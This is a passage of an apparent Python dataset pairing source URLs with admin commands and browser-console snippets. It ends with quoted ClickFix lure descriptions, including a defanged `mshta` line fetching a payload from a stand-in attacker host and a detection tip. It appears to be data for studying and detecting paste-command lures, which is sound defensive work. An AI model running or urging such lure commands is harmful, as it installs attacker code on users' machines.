        "https://learn.microsoft.com/en-us/cli/azure/install-azure-cli-windows",
        "$ProgressPreference = 'SilentlyContinue'; Invoke-WebRequest -Uri https://aka.ms/installazurecliwindowsx64 -OutFile .\\AzureCLI.msi; "
        "Start-Process msiexec.exe -Wait -ArgumentList '/I AzureCLI.msi /quiet'; Remove-Item .\\AzureCLI.msi",
    ),
    (
        "https://nodejs.org/en/download",
        'msiexec /i "C:\\Users\\me\\Downloads\\node-v22.11.0-x64.msi" /qn',
    ),
    (
        "https://support.zoom.com/hc/en/article?id=zm_kb&sysparm_article=KB0064484",
        'msiexec /i ZoomInstallerFull.msi /quiet /qn /norestart ZoomAutoUpdate="true"',
    ),
    (
        SUPERUSER,
        'Get-ItemProperty "HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion" | Select-Object ProductName, DisplayVersion, CurrentBuild',
    ),
    (
        SUPERUSER,
        'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall" /s /f "Office"',
    ),
    (SUPERUSER, 'reg query "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"'),
    (
        SUPERUSER,
        "Get-ItemProperty HKLM:\\Software\\Wow6432Node\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Select-Object DisplayName, DisplayVersion",
    ),
    (LEARN_WIN + "netsh-interface", "netsh interface ip show config"),
    (LEARN_WIN + "netsh-interface", 'netsh interface ip set dns name="Ethernet" static 192.0.2.53'),
    (LEARN_WIN + "netsh", "netsh wlan show profiles"),
    (
        LEARN_WIN + "netsh",
        'netsh advfirewall firewall add rule name="Allow RDP" dir=in action=allow protocol=TCP localport=3389',
    ),
    (LEARN_WIN + "netsh", "netsh winsock reset"),
    (LEARN_WIN + "netsh", "netsh int ip reset"),
    (
        LEARN_WIN + "certutil",
        "certutil -hashfile C:\\Users\\me\\Downloads\\ubuntu-24.04.1-desktop-amd64.iso SHA256",
    ),
    (LEARN_WIN + "certutil", "certutil -hashfile .\\python-3.13.0-amd64.exe SHA256"),
    (
        "https://www.python.org/downloads/release/python-3130/",
        "Get-FileHash .\\python-3.13.0-amd64.exe -Algorithm SHA256",
    ),
    (LEARN_WIN + "certutil", "certutil -store -user My"),
    (LEARN_WIN + "bitsadmin", "bitsadmin /list /allusers /verbose"),
    (LEARN_WIN + "bitsadmin-examples", "bitsadmin /info myDownloadJob /verbose"),
    (
        LEARN_WIN + "icacls",
        'icacls "D:\\Shares\\Finance" /grant "HARROWFIELD\\Finance-RW:(OI)(CI)M"',
    ),
    (LEARN_WIN + "icacls", "icacls C:\\inetpub\\wwwroot /save acl-backup.txt /t"),
    (LEARN_WIN + "icacls", 'icacls "C:\\Users\\Public\\Documents" /reset /T /C'),
    (LEARN_WIN + "schtasks-query", "schtasks /query /fo LIST /v"),
    (SERVERFAULT, 'schtasks /query /tn "\\Microsoft\\Windows\\WindowsUpdate\\Scheduled Start"'),
    (
        SERVERFAULT,
        "Get-ScheduledTask | Where-Object {$_.State -ne 'Disabled'} | Select-Object TaskName, TaskPath",
    ),
    (LEARN_WIN + "sc-query", "sc query state= all | findstr SERVICE_NAME"),
    (LEARN_WIN + "sc-config", "sc config wuauserv start= auto"),
    (SUPERUSER, "Get-Service | Where-Object {$_.Status -eq 'Running'} | Sort-Object DisplayName"),
    (SUPERUSER, "Restart-Service -Name Spooler -Force"),
    (SUPERUSER, "Get-Process | Sort-Object CPU -Descending | Select-Object -First 10"),
    (SUPERUSER, "Get-NetTCPConnection -State Listen | Sort-Object LocalPort"),
    (SUPERUSER, "Test-NetConnection -ComputerName fileserver01.corp.harrowfield.example -Port 445"),
    (SUPERUSER, "Resolve-DnsName harrowfield.example -Type MX"),
    (SUPERUSER, "ipconfig /flushdns"),
    (SUPERUSER, 'ipconfig /all | findstr /i "DNS Servers"'),
    (SUPERUSER, "gpupdate /force"),
    (SUPERUSER, "gpresult /h C:\\Temp\\gpresult.html"),
    (SUPERUSER, "wmic bios get serialnumber"),
    (SUPERUSER, "Get-CimInstance -ClassName Win32_BIOS | Select-Object SerialNumber"),
    (SUPERUSER, "Get-CimInstance Win32_OperatingSystem | Select-Object LastBootUpTime"),
    (SUPERUSER, "manage-bde -status C:"),
    (SUPERUSER, "Get-BitLockerVolume | Select-Object MountPoint, ProtectionStatus"),
    (SUPERUSER, "powercfg /batteryreport /output C:\\Temp\\battery.html"),
    (SUPERUSER, "DISM /Online /Cleanup-Image /ScanHealth"),
    (SUPERUSER, "Get-AppxPackage *xbox* | Remove-AppxPackage"),
    (SUPERUSER, "Get-WindowsCapability -Online | Where-Object Name -like 'OpenSSH*'"),
    (SUPERUSER, "Add-WindowsCapability -Online -Name OpenSSH.Client~~~~0.0.1.0"),
    (
        SUPERUSER,
        "Enable-WindowsOptionalFeature -Online -FeatureName Microsoft-Windows-Subsystem-Linux -NoRestart",
    ),
    (SUPERUSER, "wsl --install -d Ubuntu-24.04"),
    (SUPERUSER, "Get-LocalGroupMember -Group Administrators"),
    (SUPERUSER, "net user %USERNAME% /domain"),
    (SUPERUSER, "net use Z: \\\\fileserver01\\shared /persistent:yes"),
    (SUPERUSER, "whoami /groups"),
    (SUPERUSER, "Get-MpComputerStatus | Select-Object AntivirusEnabled, RealTimeProtectionEnabled"),
    (
        "https://learn.microsoft.com/en-us/defender-endpoint/command-line-arguments-microsoft-defender-antivirus",
        '"%ProgramFiles%\\Windows Defender\\MpCmdRun.exe" -SignatureUpdate',
    ),
    (
        "https://learn.microsoft.com/en-us/defender-endpoint/command-line-arguments-microsoft-defender-antivirus",
        "Start-MpScan -ScanType QuickScan",
    ),
    (
        "https://learn.microsoft.com/en-us/exchange/troubleshoot",
        "Get-Mailbox -ResultSize Unlimited | Get-MailboxStatistics | Sort-Object TotalItemSize -Descending",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/activedirectory/get-aduser",
        "Get-ADUser -Filter 'Enabled -eq $false' -Properties LastLogonDate | Select-Object Name, LastLogonDate",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/microsoftgraph/installation",
        "Install-Module Microsoft.Graph -Scope CurrentUser -Repository PSGallery -Force",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/microsoftgraph/authentication-commands",
        'Connect-MgGraph -Scopes "User.Read.All","Group.ReadWrite.All"',
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/exchange/connect-to-exchange-online-powershell",
        "Connect-ExchangeOnline -UserPrincipalName admin@harrowfield.example",
    ),
    (SO, "$env:Path -split ';'"),
    (
        SO,
        "[Environment]::SetEnvironmentVariable('JAVA_HOME', 'C:\\Program Files\\Eclipse Adoptium\\jdk-21', 'User')",
    ),
    (
        SO,
        "Get-ChildItem -Path C:\\Users\\me\\Downloads -Recurse -Filter *.log | Remove-Item -WhatIf",
    ),
    (
        SO,
        "Invoke-RestMethod -Uri 'https://api.github.com/repos/PowerShell/PowerShell/releases/latest' | Select-Object tag_name",
    ),
    (SO, "Unblock-File -Path .\\Modules\\MyModule\\*.ps1"),
    (SO, "Compress-Archive -Path .\\build\\* -DestinationPath .\\release.zip -Force"),
    (SO, "robocopy C:\\Data \\\\nas01\\backup\\Data /MIR /R:2 /W:5 /LOG:C:\\Temp\\robocopy.log"),
    (SO, "Get-Content .\\server.log -Tail 50 -Wait"),
    (SO, "Start-Process powershell -Verb RunAs"),
    (SO, "Get-Command python | Select-Object Source"),
]

SYSTEMD = "https://www.freedesktop.org/software/systemd/man/latest/journalctl.html"
DO_TUT = "https://www.digitalocean.com/community/tutorials/how-to-use-systemctl-to-manage-systemd-services-and-units"
ASKUBUNTU = (
    "https://askubuntu.com/questions/1398344/apt-key-deprecation-warning-when-updating-system"
)
LINUX_ADMIN = [
    (DO_TUT, "sudo systemctl status nginx"),
    (DO_TUT, "sudo systemctl enable --now docker"),
    (DO_TUT, "systemctl list-units --type=service --state=failed"),
    (DO_TUT, "sudo systemctl daemon-reload && sudo systemctl restart myapp.service"),
    (SYSTEMD, 'journalctl -u nginx --since "1 hour ago" --no-pager'),
    (SYSTEMD, "journalctl -b -p err"),
    (SYSTEMD, "sudo journalctl --vacuum-time=2weeks"),
    (SYSTEMD, "journalctl -fu sshd"),
    (
        "https://docs.docker.com/engine/install/ubuntu/",
        "sudo install -m 0755 -d /etc/apt/keyrings\n"
        "sudo curl -fsSL https://download.docker.com/linux/ubuntu/gpg -o /etc/apt/keyrings/docker.asc\n"
        "sudo chmod a+r /etc/apt/keyrings/docker.asc",
    ),
    (
        "https://docs.docker.com/engine/install/ubuntu/",
        'echo \\\n  "deb [arch=$(dpkg --print-architecture) signed-by=/etc/apt/keyrings/docker.asc] https://download.docker.com/linux/ubuntu \\\n'
        '  $(. /etc/os-release && echo "$VERSION_CODENAME") stable" | \\\n'
        "  sudo tee /etc/apt/sources.list.d/docker.list > /dev/null\nsudo apt-get update",
    ),
    (
        "https://github.com/cli/cli/blob/trunk/docs/install_linux.md",
        "curl -fsSL https://cli.github.com/packages/githubcli-archive-keyring.gpg | sudo dd of=/usr/share/keyrings/githubcli-archive-keyring.gpg",
    ),
    (
        "https://nodejs.org/en/download/package-manager",
        "curl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash -\nsudo apt-get install -y nodejs",
    ),
    (
        "https://code.visualstudio.com/docs/setup/linux",
        "wget -qO- https://packages.microsoft.com/keys/microsoft.asc | gpg --dearmor > packages.microsoft.gpg\n"
        "sudo install -D -o root -g root -m 644 packages.microsoft.gpg /etc/apt/keyrings/packages.microsoft.gpg",
    ),
    (
        "https://www.postgresql.org/download/linux/ubuntu/",
        "sudo apt install curl ca-certificates\nsudo install -d /usr/share/postgresql-common/pgdg\n"
        "sudo curl -o /usr/share/postgresql-common/pgdg/apt.postgresql.org.asc --fail https://www.postgresql.org/media/keys/ACCC4CF8.asc",
    ),
    (
        "https://developer.hashicorp.com/terraform/install",
        "wget -O - https://apt.releases.hashicorp.com/gpg | sudo gpg --dearmor -o /usr/share/keyrings/hashicorp-archive-keyring.gpg",
    ),
    (
        "https://developer.hashicorp.com/terraform/install",
        'echo "deb [arch=$(dpkg --print-architecture) signed-by=/usr/share/keyrings/hashicorp-archive-keyring.gpg] https://apt.releases.hashicorp.com $(lsb_release -cs) main" | sudo tee /etc/apt/sources.list.d/hashicorp.list',
    ),
    (
        "https://www.elastic.co/guide/en/elasticsearch/reference/current/deb.html",
        "wget -qO - https://artifacts.elastic.co/GPG-KEY-elasticsearch | sudo gpg --dearmor -o /usr/share/keyrings/elasticsearch-keyring.gpg",
    ),
    (
        "https://grafana.com/docs/grafana/latest/setup-grafana/installation/debian/",
        "wget -q -O - https://apt.grafana.com/gpg.key | gpg --dearmor | sudo tee /etc/apt/keyrings/grafana.gpg > /dev/null",
    ),
    (
        "https://kubernetes.io/docs/setup/production-environment/tools/kubeadm/install-kubeadm/",
        "curl -fsSL https://pkgs.k8s.io/core:/stable:/v1.31/deb/Release.key | sudo gpg --dearmor -o /etc/apt/keyrings/kubernetes-apt-keyring.gpg",
    ),
    (
        "https://docs.fedoraproject.org/en-US/quick-docs/installing-chromium-or-google-chrome-browsers/",
        "sudo dnf install fedora-workstation-repositories\nsudo dnf config-manager --set-enabled google-chrome",
    ),
    (
        "https://rpmfusion.org/Configuration",
        "sudo dnf install https://mirrors.rpmfusion.org/free/fedora/rpmfusion-free-release-$(rpm -E %fedora).noarch.rpm",
    ),
    (
        "https://docs.github.com/en/rest/repos/repos",
        'curl -L -H "Accept: application/vnd.github+json" -H "Authorization: Bearer <YOUR-TOKEN>" -H "X-GitHub-Api-Version: 2022-11-28" https://api.github.com/user/repos',
    ),
    (
        "https://docs.stripe.com/api/customers/list",
        "curl https://api.stripe.com/v1/customers -u sk_test_4eC39HqLyjWDarjtT1zdp7dc: -d limit=3 -G",
    ),
    (
        "https://platform.openai.com/docs/api-reference/chat",
        'curl https://api.openai.com/v1/chat/completions -H "Content-Type: application/json" -H "Authorization: Bearer $OPENAI_API_KEY" -d \'{"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "Hello"}]}\'',
    ),
    (
        "https://docs.gitlab.com/ee/api/projects.html",
        'curl --header "PRIVATE-TOKEN: <your_access_token>" "https://gitlab.example.com/api/v4/projects?owned=true"',
    ),
    (
        "https://developers.cloudflare.com/api/",
        'curl https://api.cloudflare.com/client/v4/user/tokens/verify -H "Authorization: Bearer $CLOUDFLARE_API_TOKEN"',
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl get pods -A -o wide",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl logs -f deploy/api -n production --tail=100",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl exec -it deploy/api -n production -- /bin/sh",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl get secret db-credentials -o jsonpath='{.data.password}' | base64 --decode",
    ),
    (
        "https://kubernetes.io/docs/tasks/access-application-cluster/port-forward-access-application-cluster/",
        "kubectl port-forward svc/grafana 3000:80 -n monitoring",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
        "kubectl apply -f https://raw.githubusercontent.com/kubernetes/website/main/content/en/examples/application/deployment.yaml",
    ),
    (
        "https://cert-manager.io/docs/installation/kubectl/",
        "kubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.16.1/cert-manager.yaml",
    ),
    (
        "https://helm.sh/docs/intro/quickstart/",
        "helm repo add bitnami https://charts.bitnami.com/bitnami && helm repo update",
    ),
    (
        "https://helm.sh/docs/intro/quickstart/",
        "helm install my-release bitnami/postgresql --namespace db --create-namespace",
    ),
    (
        "https://developer.hashicorp.com/terraform/cli/commands/plan",
        "terraform init && terraform plan -out=tfplan",
    ),
    (
        "https://developer.hashicorp.com/terraform/cli/commands/apply",
        "terraform apply -auto-approve tfplan",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/reference/s3/cp.html",
        "aws s3 cp ./dist s3://my-bucket/site --recursive",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/reference/sts/get-caller-identity.html",
        "aws sts get-caller-identity --profile prod",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/reference/ec2/describe-instances.html",
        "aws ec2 describe-instances --filters Name=instance-state-name,Values=running --query 'Reservations[].Instances[].InstanceId' --output text",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/reference/ecr/get-login-password.html",
        "aws ecr get-login-password --region eu-west-1 | docker login --username AWS --password-stdin 123456789012.dkr.ecr.eu-west-1.amazonaws.com",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/authenticate-azure-cli",
        "az login --use-device-code",
    ),
    ("https://learn.microsoft.com/en-us/cli/azure/vm", "az vm list -d -o table"),
    (
        "https://learn.microsoft.com/en-us/cli/azure/aks",
        "az aks get-credentials --resource-group rg-prod --name aks-prod",
    ),
    (
        "https://cloud.google.com/sdk/gcloud/reference/auth/login",
        "gcloud auth login --no-launch-browser",
    ),
    (
        "https://cloud.google.com/sdk/gcloud/reference/compute/ssh",
        "gcloud compute ssh my-vm --zone=europe-west1-b --tunnel-through-iap",
    ),
    (
        "https://cloud.google.com/sdk/gcloud/reference/config/set",
        "gcloud config set project my-project-123",
    ),
    (
        "https://docs.docker.com/engine/storage/volumes/",
        "docker run -d --name pg -e POSTGRES_PASSWORD=secret -v pgdata:/var/lib/postgresql/data -p 5432:5432 postgres:16",
    ),
    (
        "https://hub.docker.com/_/nginx",
        'docker run --rm -it -v "$PWD":/usr/share/nginx/html:ro -p 8080:80 nginx',
    ),
    (
        "https://docs.docker.com/reference/cli/docker/container/prune/",
        "docker system prune -a --volumes",
    ),
    ("https://docs.docker.com/reference/cli/docker/container/exec/", "docker exec -it web bash"),
    ("https://docs.docker.com/compose/", "docker compose up -d --build && docker compose logs -f"),
    (
        "https://docs.portainer.io/start/install-ce/server/docker/linux",
        "docker run -d -p 9443:9443 --name portainer --restart=always -v /var/run/docker.sock:/var/run/docker.sock -v portainer_data:/data portainer/portainer-ce:lts",
    ),
    (
        "https://www.cyberciti.biz/faq/linux-find-largest-file-in-directory-recursively-using-find-du/",
        "sudo du -ah /var | sort -rh | head -n 20",
    ),
    ("https://unix.stackexchange.com/questions/tagged/find", "find . -name '*.pyc' -delete"),
    (
        "https://unix.stackexchange.com/questions/tagged/ssh",
        'ssh-keygen -t ed25519 -C "me@harrowfield.example"',
    ),
    (
        "https://unix.stackexchange.com/questions/tagged/ssh",
        "ssh-copy-id -i ~/.ssh/id_ed25519.pub deploy@198.51.100.23",
    ),
    (
        "https://unix.stackexchange.com/questions/tagged/tar",
        "tar -czvf backup-$(date +%F).tar.gz /etc /home/deploy/app",
    ),
    (
        "https://unix.stackexchange.com/questions/tagged/sed",
        "sed -i 's/^#PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config",
    ),
    (
        "https://unix.stackexchange.com/questions/tagged/permissions",
        "sudo chown -R $USER:$USER ~/.npm && chmod 700 ~/.ssh",
    ),
    (
        "https://letsencrypt.org/getting-started/",
        "sudo certbot --nginx -d harrowfield.example -d www.harrowfield.example",
    ),
    ("https://ubuntu.com/server/docs/firewalls", "sudo ufw allow OpenSSH && sudo ufw enable"),
    (
        "https://docs.fedoraproject.org/en-US/quick-docs/firewalld/",
        "sudo firewall-cmd --permanent --add-service=https && sudo firewall-cmd --reload",
    ),
    ("https://wiki.archlinux.org/title/Pacman", "sudo pacman -Syu"),
    ("https://wiki.archlinux.org/title/Network_configuration", "ip -br addr && ip route"),
    ("https://wiki.archlinux.org/title/Network_configuration", "ss -tulpn"),
    (
        "https://linuxize.com/post/how-to-add-swap-space-on-ubuntu-22-04/",
        "sudo fallocate -l 2G /swapfile && sudo chmod 600 /swapfile && sudo mkswap /swapfile && sudo swapon /swapfile",
    ),
    (
        "https://askubuntu.com/questions/tagged/openssl",
        "openssl s_client -connect harrowfield.example:443 -servername harrowfield.example </dev/null | openssl x509 -noout -dates",
    ),
    ("https://askubuntu.com/questions/tagged/openssl", "echo -n 'admin:changeme' | base64"),
    ("https://askubuntu.com/questions/tagged/base64", "echo 'aGVsbG8gd29ybGQK' | base64 -d"),
    (
        "https://www.gnupg.org/gph/en/manual/x135.html",
        "gpg --verify SHA256SUMS.gpg SHA256SUMS && sha256sum -c SHA256SUMS --ignore-missing",
    ),
    (
        "https://docs.python.org/3/library/venv.html",
        "python3 -m venv .venv && source .venv/bin/activate",
    ),
    (
        "https://pip.pypa.io/en/stable/cli/pip_install/",
        "python -m pip install --upgrade pip setuptools wheel",
    ),
    (
        "https://git-scm.com/docs/git-config",
        'git config --global user.name "Mona Lisa" && git config --global init.defaultBranch main',
    ),
    (
        "https://docs.github.com/en/authentication/connecting-to-github-with-ssh",
        'eval "$(ssh-agent -s)"\nssh-add ~/.ssh/id_ed25519',
    ),
    (ASKUBUNTU, "sudo rm /etc/apt/trusted.gpg.d/old-repo.gpg && sudo apt update"),
]

MAC_ADMIN = [
    ("https://brew.sh/", "brew update && brew upgrade && brew cleanup"),
    ("https://formulae.brew.sh/formula/wget", "brew install wget"),
    ("https://formulae.brew.sh/cask/firefox", "brew install --cask firefox"),
    (
        "https://macos-defaults.com/finder/appleshowallfiles.html",
        "defaults write com.apple.finder AppleShowAllFiles -bool true && killall Finder",
    ),
    (
        "https://macos-defaults.com/dock/autohide.html",
        'defaults write com.apple.dock "autohide" -bool "true" && killall Dock',
    ),
    (
        "https://macos-defaults.com/screenshots/location.html",
        'defaults write com.apple.screencapture "location" -string "~/Desktop/Screenshots" && killall SystemUIServer',
    ),
    (
        "https://support.apple.com/guide/terminal/welcome/mac",
        "defaults read com.apple.dock persistent-apps",
    ),
    ("https://www.gimp.org/downloads/", "xattr -d com.apple.quarantine /Applications/GIMP.app"),
    ("https://github.com/quillmere/menubar-app#install", "xattr -cr /Applications/Menubar.app"),
    (
        "https://docs.syncthing.net/users/autostart.html",
        "xattr -r -d com.apple.quarantine ~/Applications/Syncthing.app",
    ),
    (
        "https://developer.apple.com/documentation/security/notarizing-macos-software-before-distribution",
        "spctl --assess --verbose /Applications/Example.app",
    ),
    (
        "https://support.apple.com/guide/terminal/script-management-with-launchd-apdc6c1077b-5d5d-4d35-9c19-60f2397b2369/mac",
        "launchctl list | grep -i docker",
    ),
    (
        "https://www.launchd.info/",
        "launchctl bootout gui/$(id -u) ~/Library/LaunchAgents/com.harrowfield.sync.plist",
    ),
    (
        "https://www.launchd.info/",
        "launchctl load -w ~/Library/LaunchAgents/homebrew.mxcl.postgresql@16.plist",
    ),
    ("https://support.apple.com/en-us/102149", "sudo softwareupdate -ia --verbose"),
    (
        "https://support.apple.com/guide/mac-help/",
        "sudo dscacheutil -flushcache; sudo killall -HUP mDNSResponder",
    ),
    ("https://support.apple.com/guide/mac-help/", "pmset -g batt"),
    ("https://support.apple.com/guide/mac-help/", "networksetup -listallhardwareports"),
    ("https://support.apple.com/guide/mac-help/", "sudo tmutil listbackups"),
    ("https://support.apple.com/guide/mac-help/", "csrutil status"),
    ("https://support.apple.com/guide/mac-help/", "diskutil list && diskutil info /"),
    (
        "https://support.apple.com/guide/mac-help/",
        "system_profiler SPHardwareDataType | grep Serial",
    ),
    ("https://stackoverflow.com/questions/tagged/macos", "sudo xcode-select --reset"),
    (
        "https://stackoverflow.com/questions/tagged/macos",
        "echo 'export PATH=\"/opt/homebrew/bin:$PATH\"' >> ~/.zprofile",
    ),
    (
        "https://docs.brew.sh/Installation",
        'echo \'eval "$(/opt/homebrew/bin/brew shellenv)"\' >> ~/.zprofile\neval "$(/opt/homebrew/bin/brew shellenv)"',
    ),
    (
        "https://stackoverflow.com/questions/tagged/macos",
        "codesign -dv --verbose=4 /Applications/Slack.app",
    ),
    ("https://stackoverflow.com/questions/tagged/macos", "mdfind -name 'Quarterly Report'"),
    ("https://stackoverflow.com/questions/tagged/macos", "sudo lsof -iTCP -sTCP:LISTEN -n -P"),
    ("https://stackoverflow.com/questions/tagged/macos", "open -a 'Visual Studio Code' ."),
    ("https://stackoverflow.com/questions/tagged/macos", "pbpaste | jq . | pbcopy"),
]

# -- (c) browser-console snippets developers paste ------------------------------------------------

CONSOLE_SNIPPETS = [
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "document.querySelectorAll('a').forEach(a => console.log(a.href));",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "[...document.querySelectorAll('img')].filter(i => !i.alt).map(i => i.src)",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "copy([...document.querySelectorAll('table tr')].map(r => [...r.cells].map(c => c.innerText).join('\\t')).join('\\n'))",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "copy(JSON.stringify(window.__NEXT_DATA__, null, 2))",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "copy(JSON.stringify(localStorage))",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "monitorEvents(window, 'resize')",
    ),
    ("https://developer.chrome.com/docs/devtools/console/utilities", "$$('button').length"),
    ("https://developer.chrome.com/docs/devtools/console/utilities", "queryObjects(Promise)"),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "getEventListeners(document.body)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Window/localStorage",
        "Object.keys(localStorage)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Window/localStorage",
        "localStorage.getItem('theme')",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Window/localStorage",
        "localStorage.setItem('debug', 'app:*')",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Window/localStorage",
        "localStorage.clear(); location.reload();",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Window/sessionStorage",
        "sessionStorage.removeItem('draft')",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Performance/getEntriesByType",
        "performance.getEntriesByType('navigation')[0].domContentLoadedEventEnd",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Performance/getEntriesByType",
        "performance.getEntriesByType('resource').sort((a, b) => b.duration - a.duration).slice(0, 10).map(e => [e.name, Math.round(e.duration)])",
    ),
    (
        "https://web.dev/articles/lcp",
        "new PerformanceObserver((list) => { for (const e of list.getEntries()) console.log('LCP', e.startTime, e.element); }).observe({type: 'largest-contentful-paint', buffered: true});",
    ),
    (
        "https://web.dev/articles/cls",
        "let cls = 0; new PerformanceObserver(l => { for (const e of l.getEntries()) if (!e.hadRecentInput) cls += e.value; console.log(cls); }).observe({type: 'layout-shift', buffered: true});",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API/Using_Fetch",
        "fetch('/api/v1/me').then(r => r.json()).then(console.log)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API/Using_Fetch",
        "await (await fetch('/api/health')).json()",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API/Using_Fetch",
        "fetch('https://jsonplaceholder.typicode.com/todos/1').then(response => response.json()).then(json => console.log(json))",
    ),
    (
        "https://docs.github.com/en/rest",
        "fetch('https://api.github.com/repos/nodejs/node').then(r => r.json()).then(d => d.stargazers_count)",
    ),
    ("https://stackoverflow.com/questions/tagged/javascript", "document.designMode = 'on'"),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "document.body.contentEditable = true",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "document.cookie.split('; ').map(c => c.split('=')[0])",
    ),
    (
        "https://stackoverflow.com/questions/tagged/css",
        "document.querySelectorAll('*').forEach(el => { if (el.offsetWidth > document.documentElement.offsetWidth) console.log(el); });",
    ),
    (
        "https://css-tricks.com/",
        "[].forEach.call($$('*'), a => { a.style.outline = '1px solid #' + (~~(Math.random() * (1 << 24))).toString(16); });",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "Array.from(document.querySelectorAll('input[type=checkbox]')).forEach(cb => cb.checked = true)",
    ),
    (
        "https://stackoverflow.com/questions/tagged/youtube",
        "document.querySelector('video').playbackRate = 2.5",
    ),
    ("https://stackoverflow.com/questions/tagged/javascript", "console.table(performance.memory)"),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "navigator.serviceWorker.getRegistrations().then(rs => rs.forEach(r => r.unregister()))",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "caches.keys().then(keys => Promise.all(keys.map(k => caches.delete(k))))",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "indexedDB.databases().then(console.log)",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "window.scrollTo(0, document.body.scrollHeight)",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "JSON.parse(atob(localStorage.getItem('token').split('.')[1]))",
    ),
    ("https://stackoverflow.com/questions/tagged/javascript", "atob('SGVsbG8sIFdvcmxkIQ==')"),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "btoa(JSON.stringify({ page: 2, size: 50 }))",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "new Date(1733540000 * 1000).toISOString()",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "Intl.DateTimeFormat().resolvedOptions().timeZone",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "navigator.userAgentData.getHighEntropyValues(['platformVersion']).then(console.log)",
    ),
    (
        "https://github.com/quillmere/web-client/blob/main/DEBUGGING.md",
        "window.__APP_STATE__.store.getState()",
    ),
    (
        "https://github.com/quillmere/web-client/blob/main/DEBUGGING.md",
        "localStorage.debug = 'quillmere:*'",
    ),
    ("https://react.dev/learn/react-developer-tools", "$r.props"),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "const links = [...document.links].map(l => l.href).filter(h => h.includes('/issues/')); copy(links.join('\\n'));",
    ),
    (
        "https://stackoverflow.com/questions/tagged/twitter",
        "setInterval(() => window.scrollBy(0, 1000), 1500)",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "for (const s of document.styleSheets) { try { console.log(s.href, s.cssRules.length) } catch (e) { console.log('cross-origin', s.href) } }",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "document.querySelectorAll('script[src]').forEach(s => console.log(s.src))",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        'console.log(document.querySelectorAll(\'[aria-hidden="true"] button, [aria-hidden="true"] a\').length)',
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Clipboard/writeText",
        "await navigator.clipboard.writeText(location.href)",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "Notification.requestPermission().then(console.log)",
    ),
]

# -- (d) security write-ups quoting lures ---------------------------------------------------------

WRITEUP = "https://www.example.com/blog/2026/clickfix-campaign-analysis"
WRITEUPS = [
    (
        "https://www.microsoft.com/en-us/security/blog/2025/08/21/think-before-you-clickfix/",
        "ClickFix lures trick users into pressing Win+R, pasting a command, and pressing Enter. The pasted command typically launches mshta or PowerShell to fetch the next stage from attacker infrastructure such as hxxps://cdn-verify[.]test/check.",
    ),
    (
        "https://www.microsoft.com/en-us/security/blog/2025/08/21/think-before-you-clickfix/",
        "In the observed campaign the fake CAPTCHA copied a line like `mshta hxxps://captcha-check[.]example/v.hta` to the clipboard, and the page told the visitor to open the Run dialog.",
    ),
    (
        "https://unit42.paloaltonetworks.com/preventing-clickfix-attack-vector/",
        "Detection tip: alert on explorer.exe spawning powershell.exe with -w hidden and an encoded command within seconds of a RunMRU registry write.",
    ),
    (
        "https://unit42.paloaltonetworks.com/preventing-clickfix-attack-vector/",
